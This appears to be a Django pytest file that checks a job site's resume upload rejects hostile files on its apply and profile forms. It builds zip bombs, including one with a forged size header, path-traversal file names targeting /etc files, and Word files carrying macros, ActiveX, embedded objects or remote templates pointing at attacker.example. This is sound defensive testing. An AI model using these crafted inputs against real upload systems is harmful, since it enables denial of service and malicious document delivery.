"""Hostile resumes through the real pages: refused with a message and nothing stored, on both forms that take one.

tests/applications/test_uploads.py checks each rule of uploads.validate_resume and the apply page for an
executable, an empty file and one over the limit; these add the zip bombs and hostile names, end to end.
"""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications import uploads
from applications.models import Application, CandidateProfile
from tests.applications.apply_helpers import apply_data, docx_bytes
from tests.applications.test_apply_emails import stored_files
from tests.applications.test_uploads import WINDOWS_EXECUTABLE
from tests.factories import PDF_BYTES

pytestmark = pytest.mark.django_db

DOCX_TYPE = uploads.DOCX.content_type


def _zip_bomb():
    """A few hundred kilobytes on the wire, over 50 MB unpacked."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document/>")
        archive.writestr("word/media/bomb.bin", b"\0" * (uploads.MAX_DOCX_UNCOMPRESSED_BYTES + 1))
    return buffer.getvalue()


def _document_xml_bomb():
    """The main part itself unpacks past the limit, while the zip's directory claims it is tiny."""
    content = b"<w:document>" + b" " * (uploads.MAX_DOCX_UNCOMPRESSED_BYTES + 1) + b"</w:document>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", content)
    data = bytearray(buffer.getvalue())
    # Rewrite the uncompressed size in the central directory to 13 bytes: a liar the size sum cannot catch.
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = (13).to_bytes(4, "little")
    return bytes(data)


REFUSED = [
    pytest.param("cv.docx", WINDOWS_EXECUTABLE, DOCX_TYPE, "not a PDF or Word document", id="executable-named-docx"),
    pytest.param("cv.docx", _zip_bomb(), DOCX_TYPE, "unpacks to far more than a resume does", id="zip-bomb"),
    pytest.param(
        "cv.docx",
        docx_bytes(extra_entries=uploads.MAX_DOCX_ENTRIES),
        DOCX_TYPE,
        "far more parts than a resume",
        id="many-parts",
    ),
    pytest.param(
        "../../../etc/cron.d/x.pdf",
        WINDOWS_EXECUTABLE,
        "application/pdf",
        "not a PDF or Word document",
        id="traversal-exe",
    ),
    pytest.param("cv.pdf", b"", "application/pdf", "This file is empty.", id="empty"),
    pytest.param(
        "cv.pdf",
        PDF_BYTES + b"0" * uploads.MAX_RESUME_BYTES,
        "application/pdf",
        "resumes can be at most 5.0",
        id="over-5-mb",
    ),
]


@pytest.mark.parametrize(("name", "content", "content_type", "message"), REFUSED)
def test_a_hostile_resume_on_the_apply_form_is_refused_and_nothing_is_stored(
    client, posting, candidate, name, content, content_type, message
):
    client.force_login(candidate)
    data = apply_data(posting, resume=SimpleUploadedFile(name, content, content_type=content_type))

    response = client.post(reverse("applications:apply", args=[posting.pk]), data)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Application.objects.exists()
    assert not CandidateProfile.objects.get(user=candidate).resume
    assert stored_files() == set()


@pytest.mark.parametrize(("name", "content", "content_type", "message"), REFUSED)
def test_a_hostile_resume_on_the_profile_is_refused_and_nothing_is_stored(
    client, candidate, name, content, content_type, message
):
    client.force_login(candidate)

    response = client.post(
        reverse("applications:profile"),
        {
            "full_name": "Casey Candidate",
            "years_experience": 4,
            "years_leadership": 0,
            "resume_upload": SimpleUploadedFile(name, content, content_type=content_type),
            "licenses-TOTAL_FORMS": 0,
            "licenses-INITIAL_FORMS": 0,
        },
    )

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not CandidateProfile.objects.get(user=candidate).resume
    assert stored_files() == set()


def test_a_docx_whose_main_part_lies_about_its_size_is_refused(client, posting, candidate):
    client.force_login(candidate)
    data = apply_data(posting, resume=SimpleUploadedFile("cv.docx", _document_xml_bomb(), content_type=DOCX_TYPE))

    response = client.post(reverse("applications:apply", args=[posting.pk]), data)

    assert response.status_code == 200
    page = response.content.decode()
    assert "unpacks to far more than a resume does" in page or "damaged or encrypted" in page
    assert not Application.objects.exists()
    assert stored_files() == set()


@pytest.mark.parametrize(
    "name",
    ["../../../../etc/passwd.pdf", "..\\..\\boot.ini.pdf", "cv\x00\r\n.pdf", "\u202etxt.exe.pdf", "/absolute/path.pdf"],
)
def test_a_real_resume_with_a_hostile_name_is_stored_under_a_random_name_and_shown_cleaned(
    client, posting, candidate, name
):
    """The file itself is a fine resume, so it is taken; nothing of its name reaches the disk or a header."""
    client.force_login(candidate)
    data = apply_data(posting, resume=SimpleUploadedFile(name, PDF_BYTES, content_type="application/pdf"))

    response = client.post(reverse("applications:apply", args=[posting.pk]), data)

    assert response.status_code == 302
    application = Application.objects.get()
    folder, _, stored = application.resume.name.rpartition("/")
    assert folder.startswith("resumes/") and ".." not in application.resume.name
    assert len(stored) == len("0123456789abcdef0123456789abcdef.pdf")
    assert (
        "/" not in application.resume_name
        and "\\" not in application.resume_name
        and ".." not in application.resume_name
    )
    assert not any(ord(ch) < 32 or ch == "\u202e" for ch in application.resume_name)
    download = client.get(reverse("applications:application_resume", args=[application.pk]))
    disposition = download["Content-Disposition"]
    assert not any(ch in disposition for ch in "\r\n\x00/")


# --- Word files with active or outside content ------------------------------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _relationships(*rows):
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"{' TargetMode="External"' if external else ""}/>'
        for n, (kind, target, external) in enumerate(rows, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">{body}</Relationships>'


def word_file(*, content_types="", document_rels=(), parts=None, main="document.main+xml"):
    """A .docx as Word writes one: content types, package and document relationships, a settings part."""
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.{main}"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        f"{content_types}</Types>"
    )
    files = {
        "[Content_Types].xml": types,
        "_rels/.rels": _relationships((f"{RELS}/officeDocument", "word/document.xml", False)),
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Casey Candidate, OTR/L</w:t></w:r></w:p></w:body></w:document>",
        "word/settings.xml": "<w:settings/>",
        "word/_rels/document.xml.rels": _relationships(
            (f"{RELS}/settings", "settings.xml", False),
            (f"{RELS}/hyperlink", "https://www.linkedin.com/in/casey", True),
            *document_rels,
        ),
        **(parts or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


ACTIVE_WORD_FILES = [
    pytest.param(
        word_file(
            main="document.macroEnabled.main+xml",
            content_types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            document_rels=[
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
            ],
            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"},
        ),
        "contains macros",
        id="macros-vbaProject",
    ),
    pytest.param(
        word_file(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}),
        "contains macros",
        id="macros-part-alone",
    ),
    pytest.param(
        word_file(
            parts={
                "word/_rels/settings.xml.rels": _relationships(
                    (f"{RELS}/attachedTemplate", "https://attacker.example/template.dotm", True)
                )
            }
        ),
        "loads content from the internet",
        id="remote-template",
    ),
    pytest.param(
        word_file(document_rels=[(f"{RELS}/image", "https://tracker.example/pixel.png", True)]),
        "loads content from the internet",
        id="remote-image",
    ),
    pytest.param(
        word_file(
            parts={
                "word/_rels/webSettings.xml.rels": _relationships((f"{RELS}/frame", "https://attacker.example/", True))
            }
        ),
        "loads content from the internet",
        id="remote-frame",
    ),
    pytest.param(
        word_file(document_rels=[(f"{RELS}/oleObject", "file:///C:/payload.exe", True)]),
        "embedded in it",
        id="remote-ole-object",
    ),
    pytest.param(
        word_file(
            content_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
            document_rels=[(f"{RELS}/oleObject", "embeddings/oleObject1.bin", False)],
            parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 object"},
        ),
        "embedded in it",
        id="embedded-ole-object",
    ),
    pytest.param(
        word_file(
            document_rels=[(f"{RELS}/package", "embeddings/sheet.xlsx", False)],
            parts={"word/embeddings/sheet.xlsx": b"PK sheet"},
        ),
        "embedded in it",
        id="embedded-package",
    ),
    pytest.param(
        word_file(
            document_rels=[(f"{RELS}/aFChunk", "afchunk.mht", False)],
            parts={"word/afchunk.mht": "MIME-Version: 1.0\r\n\r\n<html><script>alert(1)</script></html>"},
        ),
        "embedded in it",
        id="alt-chunk",
    ),
    pytest.param(
        word_file(
            document_rels=[(f"{RELS}/control", "activeX/activeX1.xml", False)],
            parts={"word/activeX/activeX1.xml": "<ax:ocx/>"},
        ),
        "embedded in it",
        id="activex-control",
    ),
]


def test_a_word_file_as_word_writes_it_with_a_link_in_it_is_accepted():
    checked = uploads.validate_resume(SimpleUploadedFile("cv.docx", word_file(), content_type=DOCX_TYPE))

    assert checked.kind == uploads.DOCX


@pytest.mark.parametrize(("content", "message"), ACTIVE_WORD_FILES)
def test_a_word_file_with_macros_objects_or_outside_content_is_refused(client, candidate, content, message):
    client.force_login(candidate)

    response = client.post(
        reverse("applications:profile"),
        {
            "full_name": candidate.full_name,
            "years_experience": 4,
            "years_leadership": 0,
            "resume_upload": SimpleUploadedFile("cv.docx", content, content_type=DOCX_TYPE),
            "licenses-TOTAL_FORMS": 0,
            "licenses-INITIAL_FORMS": 0,
        },
    )

    assert response.status_code == 200
    assert message in response.content.decode()
    candidate.profile.refresh_from_db()
    assert not candidate.profile.resume


def _word_97(*storages):
    return (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\x00" * 504
        + b"".join(name.encode("utf-16-le") + b"\x00" * (64 - 2 * len(name)) for name in ("WordDocument", *storages))
    )


@pytest.mark.parametrize(
    ("storages", "message"),
    [(("Macros", "VBA"), "contains macros"), (("_VBA_PROJECT",), "contains macros"), (("ObjectPool",), "embedded")],
)
def test_a_word_97_file_with_macros_or_objects_is_refused(storages, message):
    with pytest.raises(ValidationError) as refused:
        uploads.validate_resume(SimpleUploadedFile("cv.doc", _word_97(*storages), content_type="application/msword"))

    assert message in refused.value.messages[0]
    assert uploads.validate_resume(SimpleUploadedFile("cv.doc", _word_97(), content_type="application/msword"))
